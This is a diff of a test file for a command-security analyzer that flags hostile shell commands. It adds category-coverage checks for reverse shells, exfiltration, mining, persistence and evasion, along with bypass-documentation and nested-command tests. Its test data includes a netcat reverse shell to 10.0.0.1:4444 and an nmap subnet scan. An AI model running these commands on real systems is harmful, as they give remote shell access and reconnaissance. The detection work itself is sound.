@@ -32,7 +32,13 @@ const checker = CommandChecker.create({ rules });
 test('every command rule example matches / does not match through the analyzer', () => {
   const cmdRules = rules.rules.filter((r) => r.id.startsWith('cmd_'));
   assert.ok(cmdRules.length >= 40, `only ${cmdRules.length} command rules`);
-  for (const r of cmdRules) assert.ok(r.examples.match.length > 0 && r.examples.nomatch.length > 0, `${r.id} needs match and nomatch examples`);
+  for (const r of cmdRules) {
+    assert.ok(r.examples.match.length > 0 && r.examples.nomatch.length > 0, `${r.id} needs match and nomatch examples`);
+    assert.match(r.desc, /bypass/i, `${r.id} must say how it can be bypassed`);
+  }
+  for (const c of ['mining', 'tunnel', 'reverse_shell', 'internal_probe', 'metadata_access', 'ingress_transfer', 'persistence', 'defense_evasion', 'exfiltration']) {
+    assert.ok(cmdRules.some((r) => r.category === c), `no command rule for ${c}`);
+  }
   const res = runRuleExamples(rules, { expandCommand: (t) => checker.expand(t) }).filter((x) => x.rule.startsWith('cmd_'));
   const bad = res.filter((x) => !x.ok || x.skipped);
   assert.deepEqual(bad, [], JSON.stringify(bad, null, 1));
@@ -41,6 +47,7 @@ test('every command rule example matches / does not match through the analyzer',
 test('every analyzer fact rule has examples, and they behave', () => {
   for (const r of FACT_RULES) {
     assert.ok(r.examples.match.length > 0 && r.examples.nomatch.length > 0, r.id);
+    assert.match(r.desc, /bypass/i, r.id);
     for (const c of r.examples.match) assert.ok(checker.check(c).findings.some((f) => f.rule === r.id), `${r.id} should match ${c}`);
     for (const c of r.examples.nomatch) assert.ok(!checker.check(c).findings.some((f) => f.rule === r.id), `${r.id} should not match ${c}`);
   }
@@ -56,7 +63,8 @@ test('findings carry rule, category, severity, ATT&CK, span in the original text
   assert.equal(f.severity, 'critical');
   assert.ok(f.attack.includes('T1059.004'));
   assert.equal(t.slice(f.span[0], f.span[1]), t.slice(9), 'span = the pipeline that decodes and runs it');
-  assert.deepEqual(f.chain, ['nc -e /bin/sh 10.0.0.1 4444', 'nc -e /bin/sh 10.0.0.1 4444']);
+  assert.deepEqual(f.chain, ['nc -e /bin/sh 10.0.0.1 4444'], 'the decoded layer is the command itself');
+  assert.ok(r.findings.some((x) => x.rule === 'cmd_decoded_exec'));
   assert.equal(f.via, 'bash <stdin');
   assert.ok(r.unwrapped.includes('nc -e /bin/sh 10.0.0.1 4444'));
   assert.ok(r.durationUs > 0);
@@ -83,6 +91,14 @@ test('policy thresholds decide between allow, warn and deny', () => {
   assert.equal(checkCommand('ls -la').verdict, 'allow');
 });
 
+test('what could not be analysed is never called clean', () => {
+  let t = 'ls';
+  for (let i = 0; i < 12; i++) t = `bash -c ${JSON.stringify(t)}`;
+  const r = checkCommand(t);
+  assert.equal(r.verdict, 'warn');
+  assert.equal(r.findings[0]!.rule, 'cmd_analysis_incomplete');
+});
+
 test('python tool calls are analysed as inline code', () => {
   const r = checkCommand('import os\nos.system("nmap -sS 10.0.0.0/24")\n', { tool: 'python' });
   assert.equal(r.verdict, 'deny');
@@ -95,7 +111,7 @@ test('user rule files extend the built-ins without editing them', () => {
   override: append
   items: [mysecretminer]
 - rule: cmd_local_no_rm_rf_root
-  desc: Site rule. Bypass: many.
+  desc: "Site rule. Bypass: many."
   condition: cmd_event and proc.name = rm and proc.argv contains "-rf" and proc.argv contains "/"
   severity: high
   category: policy_violation
